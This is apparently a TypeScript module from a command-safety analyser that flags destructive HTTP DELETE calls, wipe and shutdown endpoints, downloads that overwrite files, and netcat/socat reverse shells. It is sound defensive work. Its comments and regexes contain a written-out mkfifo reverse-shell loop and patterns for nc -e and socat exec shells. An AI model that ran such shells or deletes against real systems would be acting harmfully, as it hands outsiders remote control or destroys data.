// HTTP clients used as remote-control tools (DELETE requests, delete-by-query endpoints), downloads
// that land on system files, and netcat/socat reverse shells.
import type { SimpleCommand } from '../command';
import { foldLookalikes } from '../command';
import type { Analysis } from '../judging';
import { optionValue } from '../options';
import { verbOf } from './infra';
import { judgeWriteTarget } from './filesystem';
import { POSIX_SHELLS } from './programs';

// Endpoints that delete data (`_delete_by_query`, `doDelete`), or admin endpoints that take a
// service out of use (`/logs/_close`, `/_shutdown`).
const DESTRUCTIVE_PATH_WORDS = new Set(['delete', 'destroy', 'drop', 'purge', 'truncate', 'wipe', 'remove', 'flush', 'flushall', 'reset', 'nuke', 'erase']);
const ADMIN_OUTAGE_ENDPOINT = /\/_(close|shutdown)(\/|\?|$)/;

export function judgeHttpClient(cmd: SimpleCommand, analysis: Analysis): void {
  const isWget = cmd.name === 'wget' || cmd.name === 'wget2';
  const method = (
    isWget
      ? optionValue(cmd.args, null, ['--method'])
      : cmd.name === 'http' || cmd.name === 'https' || cmd.name === 'xh'
        ? cmd.args.find((w) => /^(DELETE|PUT|POST|PATCH)$/i.test(w.value))
        : optionValue(cmd.args, 'X', ['--request', '--method', '-X'])
  )?.value.toUpperCase();
  const hasBody = cmd.args.some((w) => /^(-d|--data(-[a-z]+)?|-F|--form|--json|-T|--upload-file|--post-data|--post-file|--body-data|--body-file)(=|$)/.test(w.value) || /^-d./.test(w.value));
  // httpie also takes `:9200/path` and `localhost:9200/path`.
  const urls = cmd.args.filter((w) => /^[a-z][a-z0-9+.-]*:\/\//i.test(w.value) || /^(localhost|\d+\.\d+\.\d+\.\d+|[a-z0-9.-]*)?:\d+\//i.test(w.value) || /^(localhost|\d+\.\d+\.\d+\.\d+)\//.test(w.value));
  const body = cmd.args.map((w) => w.value).join(' ');
  const destructiveUrl = urls.find((w) => urlPathWords(w.value).some((p) => DESTRUCTIVE_PATH_WORDS.has(p)) || ADMIN_OUTAGE_ENDPOINT.test(w.value));
  if (method === 'DELETE' || /\bmutation\b[^]*?\b(delete|destroy|remove|drop|purge|wipe)[A-Z_a-z]*\s*\(/i.test(body) || /"Action"\s*:\s*"DELETE"/i.test(body)) {
    // eslint-disable-next-line @typescript-eslint/no-require-imports
    const { restWholeResource } = require('./whole-resources') as typeof import('./whole-resources');
    const everything = method === 'DELETE' ? urls.find((w) => deletesEverything(w.value) || restWholeResource(w.value) !== undefined) : undefined;
    if (everything) {
      analysis.effect({ kind: 'infra-delete', whole: true, unconfirmed: true, target: { type: 'resource', value: everything.value } }, `Sends an HTTP DELETE to ${everything.value}, which names every index or a whole resource (a database, repository, project, namespace...): all of it is deleted at once.`, everything.span, 'http.delete-everything');
      return;
    }
    analysis.report('http.delete', 'high', `Sends an HTTP DELETE request${urls[0] ? ` to ${urls[0].value}` : ''}: it deletes the remote resource.`, cmd.span);
  } else if (destructiveUrl && (method === 'POST' || method === 'PUT' || method === 'PATCH' || (!method && hasBody) || (!method && cmd.name === 'curl' && urls.length && hasBody))) {
    analysis.report('http.destructive-endpoint', 'high', `Calls the endpoint ${destructiveUrl.value}, which deletes or wipes data.`, destructiveUrl.span);
  } else if (method === 'POST' || method === 'PUT' || method === 'PATCH' || hasBody) {
    analysis.report('http.mutating', 'moderate', 'Sends data to a server that may change state there.', cmd.span);
  }
  // Where the download lands.
  // (`-fLo file`: the value follows a cluster that ends in the option.)
  const clusterEnd = cmd.args.findIndex((w) => (isWget ? /^-[a-zA-Z]+O$/ : /^-[a-zA-Z]+o$/).test(w.value));
  const output = (isWget ? optionValue(cmd.args, 'O', ['--output-document']) : optionValue(cmd.args, 'o', ['--output'])) ?? (clusterEnd >= 0 ? cmd.args[clusterEnd + 1] : undefined);
  if (output && output.value !== '-') {
    judgeWriteTarget(analysis, analysis.classify(output.value), output.value, output, 'Downloads over', 'overwrite');
    analysis.markDownloaded(output.value);
  }
  // `curl -O URL` / `wget URL` save under the URL's file name.
  const toStdout = cmd.args.some((w, k) => /^-[a-zA-Z]*O-$/.test(w.value) || (/^-[a-zA-Z]*O$/.test(w.value) && cmd.args[k + 1]?.value === '-') || w.value === '--output-document=-');
  const savesByName = isWget ? !output && !toStdout : cmd.args.some((w) => /^-[a-zA-Z]*O$/.test(w.value) || w.value === '--remote-name');
  if (savesByName && !cmd.args.some((w) => w.value === '--spider')) {
    for (const u of urls) {
      const file = u.value.replace(/[?#].*$/, '').split('/').pop() || 'index.html';
      analysis.markDownloaded(file);
      analysis.effect({ kind: 'write', op: 'overwrite', target: { type: 'path', value: analysis.resolve(file), pathClass: analysis.classify(file).cls } }, `Downloads ${u.value} into the file "${file}".`, u.span, 'net.download');
    }
  }
  if (isWget) {
    const dir = optionValue(cmd.args, 'P', ['--directory-prefix']);
    if (dir) judgeWriteTarget(analysis, analysis.classify(dir.value), dir.value, dir, 'Downloads into', 'overwrite');
  }
  if (cmd.name === 'curl' && cmd.args.some((w) => /^file:\/\//i.test(w.value) && cmd.args.some((o) => o.value === '-T' || o.value === '--upload-file'))) {
    analysis.report('http.upload-file', 'moderate', 'Uploads a local file.', cmd.span);
  }
}

/** A DELETE whose path is a wildcard or `_all` (every Elasticsearch/OpenSearch index), or a whole
 *  CouchDB database (`DELETE /{db}` on its port 5984). */
function deletesEverything(url: string): boolean {
  const m = /^(?:[a-z][a-z0-9+.-]*:\/\/)?[^/]*?(?::(\d+))?(\/[^?#]*)?(?:[?#].*)?$/i.exec(url);
  if (!m) return false;
  const segments = (m[2] ?? '').split('/').filter(Boolean);
  if (segments.length === 1 && (segments[0] === '_all' || /\*/.test(segments[0]))) return true;
  return m[1] === '5984' && segments.length === 1 && !segments[0].startsWith('_');
}

function urlPathWords(url: string): string[] {
  const path = url.replace(/^[a-z][a-z0-9+.-]*:\/\/[^/]*/i, '').replace(/^(localhost|\d+\.\d+\.\d+\.\d+|[a-z0-9.-]*)?(:\d+)?(?=\/)/i, '');
  const words: string[] = [];
  for (const seg of path.split(/[/?&#=]+/)) {
    if (!seg) continue;
    const verb = verbOf(seg.replace(/^_+/, ''));
    if (verb) words.push(verb);
    for (const part of seg.replace(/([a-z])([A-Z])/g, '$1 $2').toLowerCase().split(/[-_. ]+/)) if (part) words.push(part);
  }
  return words;
}

/** nc/ncat/socat wired to a shell: a bind or reverse shell. */
export function judgeNetcat(cmd: SimpleCommand, analysis: Analysis): void {
  const values = cmd.args.map((w) => foldLookalikes(w.value));
  const execArg = optionValue(cmd.args, 'e', ['--exec', '--sh-exec', '-c', '--lua-exec']) ?? optionValue(cmd.args, 'c', []);
  if (execArg) {
    const program = execArg.value.trim().split(/\s+/)[0] ?? '';
    if (POSIX_SHELLS.has(program.split('/').pop()!.toLowerCase()) || /^(cmd(\.exe)?|powershell(\.exe)?|pwsh|python\d*|perl|ruby|php|node)$/i.test(program.split(/[\\/]/).pop()!)) {
      analysis.report('net.reverse-shell', 'critical', `${cmd.name} runs "${execArg.value}" with its input and output connected to the network: a remote shell on this machine.`, execArg.span);
    } else {
      analysis.report('net.exec', 'moderate', `${cmd.name} runs "${execArg.value}" for whoever connects over the network.`, execArg.span);
      analysis.analyseNested(execArg.value, 'posix', execArg.span);
    }
    return;
  }
  if (cmd.name === 'socat' && values.some((v) => /^(exec|system):/i.test(v)) && values.some((v) => /^(tcp|udp|openssl|ssl|sctp)[46]?(-listen|-connect)?:/i.test(v))) {
    analysis.report('net.reverse-shell', 'critical', 'socat connects a program to the network: a remote shell on this machine.', cmd.span);
  }
}

/** The mkfifo loop `cat f | sh -i 2>&1 | nc host 4444 > f`: a shell's output goes to the network. */
export function judgeShellIntoNetwork(cmd: SimpleCommand, analysis: Analysis): void {
  if (cmd.stdin?.kind === 'unknown' && cmd.stdin.tool && POSIX_SHELLS.has(cmd.stdin.tool)) {
    analysis.report('net.reverse-shell', 'critical', `A shell's input and output are connected to the network through ${cmd.name}: a remote shell on this machine.`, cmd.span);
  }
}
